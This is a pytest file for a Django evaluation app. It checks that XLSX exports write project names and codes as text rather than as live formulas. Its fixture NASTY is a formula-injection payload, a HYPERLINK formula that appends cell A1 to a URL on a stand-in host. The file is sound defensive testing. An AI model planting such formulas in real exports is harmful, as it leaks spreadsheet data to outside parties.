"""Defects a security review found: formula cells in exports, lengths PostgreSQL
refuses, HTTPS behind a proxy, upload limits, out-of-range figures, evidence
content, existence oracles, and the trail of approved targets."""

from __future__ import annotations

import io

from django.test import Client
from openpyxl import load_workbook

from jixiao.web.evaluations import services
from jixiao.web.evaluations.models import Project

from .conftest import edited

NASTY = '=HYPERLINK("http://example.invalid/?x="&A1,"点此")'


def signed_in(tree, name: str) -> Client:
    client = Client()
    client.force_login(tree.users[name])
    return client


def _texts(content: bytes, min_row: int) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [c for row in sheet.iter_rows(min_row=min_row) for c in row if isinstance(c.value, str)]


def test_the_forms_list_export_writes_names_as_text_not_formulas(tree, forms):
    project = Project.objects.create(code="=1+1", name=NASTY, unit=tree.unit_a1)
    services.create(tree.users["filler_a1"], project, forms[0])
    cells = _texts(signed_in(tree, "admin").get("/forms/export/").content, min_row=2)
    values = {c.value for c in cells}
    assert {"=1+1", NASTY} <= values
    assert all(c.data_type == "s" for c in cells)


def test_the_rollup_export_writes_names_as_text_without_a_quote(tree, forms):
    project = Project.objects.create(code="-P1", name=NASTY, unit=tree.unit_a1)
    services.create(tree.users["filler_a1"], project, edited(forms[0], year=2023))
    cells = _texts(signed_in(tree, "admin").get("/rollup/export/xlsx/", {"year": 2023}).content, min_row=3)
    values = {c.value for c in cells}
    assert {"-P1", NASTY} <= values
    assert all(c.data_type == "s" for c in cells)
